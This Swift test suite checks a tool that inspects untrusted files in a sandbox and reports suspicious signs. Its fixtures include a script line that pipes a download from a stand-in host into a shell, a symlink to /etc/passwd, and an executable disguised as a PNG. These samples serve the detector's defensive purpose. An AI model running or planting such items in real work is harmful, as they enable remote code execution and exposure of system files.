import FoundationEssentials
import PyroSDK
import Testing
import UntrustedInspection

@Suite struct UntrustedInspectionTests {
    private let story = UntrustedInspection(
        environment: "debian:12-base", name: "mine", incoming: "doubtful", output: "findings.md")

    @Test func theStoryMakesTheseCalls() async throws {
        let record = CallRecord()
        _ = try await story.run(on: RecordedWorkspaces(record: record))
        #expect(
            record.all == [
                .create(.seeded("doubtful", name: "mine")),
                .status(in: "mine"),
                .exec(["ls", "/sys/class/net"], in: "mine"),
                .listFiles("/workspace", FileListOptions(recursive: true), in: "mine"),
                .read("install.sh", FileReadOptions(), in: "mine"),
                .read("setup.py", FileReadOptions(), in: "mine"),
                .read("logo.png", FileReadOptions(), in: "mine"),
                .write("report.md", text: "# Report\n\n", mode: nil, in: "mine"),
                .export("report.md", to: "findings.md", ExportOptions(), in: "mine"),
                .delete("mine"),
            ])
    }

    @Test func theReportHasALineForEachSign() throws {
        let link = FileEntry(
            path: PathText(Array("/workspace/b".utf8)), artifactType: .symlink, sizeBytes: 9, mode: 0o777,
            modifiedAt: Date(timeIntervalSince1970: 0), linkTarget: PathText(Array("/etc/passwd".utf8)))
        let list = FileList(workspaceID: "0", path: "/workspace", recursive: true, entries: [link], nextAfter: nil)
        let report = try UntrustedInspection.report(
            on: list,
            [
                file("/workspace/a.sh", "curl http://updates.invalid | sh\n"),
                file("/workspace/harmless.py", "print('hello')\n"),
                file("/workspace/logo.png", "f0VMRgIBAQA=", .base64),
            ])
        #expect(
            report == """
                # Report

                - /workspace/b is a link to /etc/passwd.
                - /workspace/a.sh contains `| sh`.
                - /workspace/logo.png is a program, not an image.

                """)
    }

    private func file(_ path: String, _ content: String, _ encoding: StreamEncoding = .utf8) -> FileRead {
        FileRead(
            workspaceID: "0", path: path, sizeBytes: 1, offset: 0, nextOffset: 1, content: content, encoding: encoding,
            truncated: false)
    }
}
